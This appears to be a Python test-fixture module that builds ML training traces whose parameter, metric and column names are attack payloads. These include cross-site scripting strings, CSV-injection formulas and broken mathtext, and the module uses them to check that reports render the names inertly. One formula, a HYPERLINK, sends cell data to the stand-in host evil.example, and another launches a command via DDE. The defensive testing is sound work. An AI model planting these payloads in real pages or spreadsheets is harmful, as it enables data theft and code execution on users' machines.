"""Traces whose every name is an attack, and their clean twins, built without a framework.

Why: a trace file is written by whoever hands it over. Reports must show these names as
text and must never run them (script in the page, formulas in a spreadsheet, mathtext in
a plot). Each builder has a clean twin with ordinary names, which must still work.
"""
from __future__ import annotations

import numpy as np

from tracer import Recorder, Trace

#: script payloads: each sets ``window.__pwned`` (or alerts) if it ever runs
SCRIPT = [
    '<img src=x onerror="window.__pwned=1">',
    "</script><script>window.__pwned=2</script>",
    "<!--<script>",
    "'\"><svg onload=window.__pwned=3>",
    "__DATA__", "__JS__", "__TITLE__", "__CSP__",
    "<script>alert(4)</script>\u2028\u2029",
]
#: spreadsheet payloads (OWASP CSV injection): each would be a formula if written raw
FORMULA = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
]
#: matplotlib mathtext payloads
MATHTEXT = ["w$\\foo{$", "$\\frac{$", "a$b"]


def _record(meta: dict, weight: str, bias: str, metric: str, slot: str, extra: str,
            extras: list[str], steps: int = 4) -> Trace:
    """A linear model y = x W + b trained by plain SGD on 6 rows, 2 features."""
    rng = np.random.default_rng(0)
    x = rng.normal(size=(6, 2))
    y = x @ np.array([[1.5], [-2.0]]) + 0.5
    rec = Recorder(meta=meta)
    rec.set_data(x, y)
    w, b = np.zeros((2, 1)), np.zeros(1)
    others = {name: np.full(1, float(i)) for i, name in enumerate(extras)}
    lr = 0.1
    sq = count = 0.0
    for s in range(steps):
        if s % 2 == 0:
            sq = count = 0.0
        rows = np.array([s % 6, (s + 1) % 6, (s + 2) % 6])
        pred = x[rows] @ w + b
        d = pred - y[rows]
        g = 2 * d / len(rows)
        gw, gb = x[rows].T @ g, g.sum(axis=0)
        nw, nb = w - lr * gw, b - lr * gb
        sq, count = sq + float(np.sum(d ** 2)), count + len(rows)
        before = {weight: w, bias: b, **others}
        after = {weight: nw, bias: nb, **others}
        grads = {weight: gw, bias: gb, **{k: np.zeros(1) for k in others}}
        rec.record_step(epoch=1 + s // 2, batch=1 + s % 2, params_before=before, params_after=after,
                        grads=grads, rows=rows, y_pred=pred, loss=float(np.mean(d ** 2)), lr=lr,
                        state={weight: {slot: nw * 0}}, logs={metric: float(np.sqrt(sq / count))},
                        extra={extra: float(s)})
        w, b = nw, nb
        if s % 2 == 1:
            rec.record_epoch(1 + s // 2, {metric: float(np.sqrt(sq / count))})
    rec.note(extra)
    return rec.trace()


def _meta(framework: str, weight: str, bias: str, metric: str, loss: str = "mse",
          optimizer: str = "sgd") -> dict:
    return {
        "framework": framework,
        "model": {"kind": "dense_stack", "layers": [
            {"type": "dense", "weight": weight, "bias": bias, "transpose": False,
             "activation": "linear", "units": 1}]},
        "loss": {"name": loss, "reduction": "mean"},
        "optimizer": {"name": optimizer, "convention": "plain", "lr": 0.1},
        "metrics": [{"name": metric, "kind": "rmse"}],
    }


def with_data_columns(trace: Trace, inputs: list[str], targets: list[str]) -> Trace:
    """The same trace with its data columns renamed (meta and the data table agree)."""
    frames = {k: v.copy() for k, v in trace.tables().items()}
    old = list(trace.input_columns) + list(trace.target_columns)
    frames["data"] = frames["data"].rename(columns=dict(zip(old, inputs + targets)))
    meta = dict(trace.meta)
    meta["data"] = {**meta["data"], "inputs": list(inputs), "targets": list(targets)}
    return Trace(arrays=None, meta=meta, frames=frames)


def hostile_trace(payloads: list[str], extras: bool = True) -> Trace:
    """Every name field holds a payload: parameters (model weight and bias and, with
    ``extras``, one more parameter per other payload), framework, metric and logged
    names, state slot, extra column, note, data columns."""
    p = list(payloads) * 3
    weight, bias, metric, slot, extra, framework = p[0], p[1], p[2], p[3], p[4], p[5]
    extras = [q for q in dict.fromkeys(payloads) if q not in (weight, bias)] if extras else []
    trace = _record(_meta(framework, weight, bias, metric), weight, bias, metric, slot, extra, extras)
    return with_data_columns(trace, [p[6], p[7]], [p[8]])


def hostile_formulas_meta(payloads: list[str]) -> Trace:
    """Payloads where the reports print meta text: loss and optimizer names."""
    trace = hostile_trace(payloads)
    trace.meta["loss"] = {"name": payloads[0], "divide_by": [payloads[1]]}
    trace.meta["optimizer"] = {"name": payloads[2], "convention": payloads[3], "lr": 0.1}
    return trace


def clean_trace() -> Trace:
    """The clean twin: the same run with ordinary names."""
    trace = _record(_meta("numpy", "w", "b", "rmse"), "w", "b", "rmse", "momentum", "lr_step", ["extra"])
    return with_data_columns(trace, ["x0", "x1"], ["y"])
